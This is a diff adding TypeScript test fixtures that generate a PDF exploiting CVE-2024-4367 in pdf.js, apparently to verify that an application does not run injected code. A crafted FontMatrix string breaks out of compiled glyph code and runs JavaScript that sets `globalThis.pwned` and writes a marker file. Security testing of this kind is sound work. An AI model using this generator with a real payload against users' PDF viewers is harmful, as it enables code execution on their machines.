@@ -397,3 +397,178 @@ export const BAD_FILENAMES: ReadonlyArray<[string, string]> = [
   ['   ', 'blank'],
   ['.pdf', 'no name'],
 ]
+
+/**
+ * JavaScript that, if anything ever runs it, raises `globalThis.pwned` and
+ * writes `markerPath`, so a run is visible from outside a worker thread.
+ */
+export function fontPayload(markerPath: string): string {
+  return (
+    'globalThis.pwned = 1; globalThis.process?.getBuiltinModule?.' +
+    `('node:fs').writeFileSync(${JSON.stringify(markerPath)}, 'ran')`
+  )
+}
+
+/**
+ * A FontMatrix whose last entry is a string that closes the call pdf.js
+ * up to 4.1 wrote into compiled glyph code (`c.transform(` + the entries
+ * joined by commas + `);`) and runs `js` after it (CVE-2024-4367).
+ */
+export function injectedFontMatrix(js: string): Array<number | string> {
+  return [1, 0, 0, 1, 0, `0); ${js} //`]
+}
+
+/**
+ * One page showing `shown` in an embedded Type1 font. The font dictionary
+ * carries `injectedFontMatrix(js)`; the font program states no FontMatrix
+ * of its own, so a reader that trusted the dictionary's would compile the
+ * string into every glyph of the page.
+ */
+export function fontInjectionPdf(js: string, shown = 'Faktura'): Uint8Array {
+  const program = type1Font('Hostile', TYPE1_GLYPHS)
+  const matrix = injectedFontMatrix(js).map(pdfValue).join(' ')
+  const page = `BT /F1 24 Tf 72 700 Td (${pdfString(shown)}) Tj ET`
+
+  return pdf([
+    '<< /Type /Catalog /Pages 2 0 R >>',
+    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] ' +
+      '/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>',
+    `<< /Length ${page.length} >>\nstream\n${page}\nendstream`,
+    '<< /Type /Font /Subtype /Type1 /BaseFont /Hostile ' +
+      `/FontDescriptor 6 0 R /FontMatrix [${matrix}] >>`,
+    '<< /Type /FontDescriptor /FontName /Hostile /Flags 32 ' +
+      '/FontBBox [0 0 600 700] /ItalicAngle 0 /Ascent 700 /Descent 0 ' +
+      '/CapHeight 700 /StemV 80 /FontFile 7 0 R >>',
+    concat([
+      text(
+        `<< /Length ${program.bytes.length} /Length1 ${program.clearLength} ` +
+          `/Length2 ${program.bytes.length - program.clearLength} ` +
+          '/Length3 0 >>\nstream\n',
+      ),
+      program.bytes,
+      text('\nendstream'),
+    ]),
+  ])
+}
+
+function pdfValue(value: number | string): string {
+  return typeof value === 'number' ? String(value) : `(${pdfString(value)})`
+}
+
+function pdfString(value: string): string {
+  return value.replace(/[\\()]/g, (c) => `\\${c}`)
+}
+
+/** Every glyph a box: a font program needs outlines, not pretty ones. */
+const TYPE1_GLYPHS = ['.notdef', 'F', 'a', 'k', 't', 'u', 'r', 'space']
+
+interface Type1Program {
+  bytes: Uint8Array
+  /** How many bytes of `bytes` are the clear-text part. */
+  clearLength: number
+}
+
+/** A Type1 font program: clear-text header, then an eexec part. */
+function type1Font(name: string, glyphs: string[]): Type1Program {
+  const clear = text(
+    `%!FontType1-1.0: ${name} 001.000\n` +
+      '12 dict begin\n' +
+      `/FontName /${name} def\n` +
+      '/Encoding StandardEncoding def\n' +
+      '/PaintType 0 def\n/FontType 1 def\n' +
+      '/FontBBox {0 0 600 700} readonly def\n' +
+      'currentdict end\ncurrentfile eexec\n',
+  )
+  const strings = glyphs.map((glyph) => {
+    const box = glyph === '.notdef' || glyph === 'space' ? [] : BOX
+    const encoded = charString([0, 600, 'hsbw', ...box, 'endchar'])
+    return concat([
+      text(`/${glyph} ${encoded.length} RD `),
+      encoded,
+      text(' ND\n'),
+    ])
+  })
+  const secret = concat([
+    text(
+      'dup /Private 8 dict dup begin\n' +
+        '/RD {string currentfile exch readstring pop} executeonly def\n' +
+        '/ND {noaccess def} executeonly def\n' +
+        '/NP {noaccess put} executeonly def\n' +
+        '/lenIV 4 def\n/BlueValues [] def\n/password 5839 def\n' +
+        '/MinFeature {16 16} def\n' +
+        `2 index /CharStrings ${glyphs.length} dict dup begin\n`,
+    ),
+    ...strings,
+    text(
+      'end\nend\nreadonly put\nnoaccess put\ndup /FontName get exch ' +
+        'definefont pop\nmark currentfile closefile\n',
+    ),
+  ])
+
+  return {
+    bytes: concat([clear, eexec(concat([new Uint8Array(4), secret]), 55665)]),
+    clearLength: clear.length,
+  }
+}
+
+/** A 400 × 600 box 100 units in: rmoveto, three lines, closepath. */
+const BOX: CharToken[] = [
+  100,
+  0,
+  'rmoveto',
+  400,
+  'hlineto',
+  600,
+  'vlineto',
+  -400,
+  'hlineto',
+  'closepath',
+]
+
+type CharToken = number | keyof typeof CHAR_OPERATORS
+
+const CHAR_OPERATORS = {
+  hsbw: 13,
+  rmoveto: 21,
+  hlineto: 6,
+  vlineto: 7,
+  closepath: 9,
+  endchar: 14,
+}
+
+/**
+ * Type1 charstring bytes, eexec-encrypted with the four leading bytes
+ * that lenIV 4 asks for.
+ */
+function charString(program: CharToken[]): Uint8Array {
+  const bytes = program.flatMap((token) =>
+    typeof token === 'number'
+      ? charStringNumber(token)
+      : [CHAR_OPERATORS[token]],
+  )
+
+  return eexec(Uint8Array.from([0, 0, 0, 0, ...bytes]), 4330)
+}
+
+function charStringNumber(n: number): number[] {
+  if (n >= -107 && n <= 107) return [n + 139]
+  if (n >= 108 && n <= 1131) return [((n - 108) >> 8) + 247, (n - 108) & 255]
+  if (n >= -1131 && n <= -108) {
+    return [((-n - 108) >> 8) + 251, (-n - 108) & 255]
+  }
+
+  return [255, (n >> 24) & 255, (n >> 16) & 255, (n >> 8) & 255, n & 255]
+}
+
+function eexec(plain: Uint8Array, key: number): Uint8Array {
+  const out = new Uint8Array(plain.length)
+  let r = key
+  plain.forEach((p, i) => {
+    const c = p ^ (r >> 8)
+    out[i] = c
+    r = ((c + r) * 52845 + 22719) & 0xffff
+  })
+
+  return out
+}
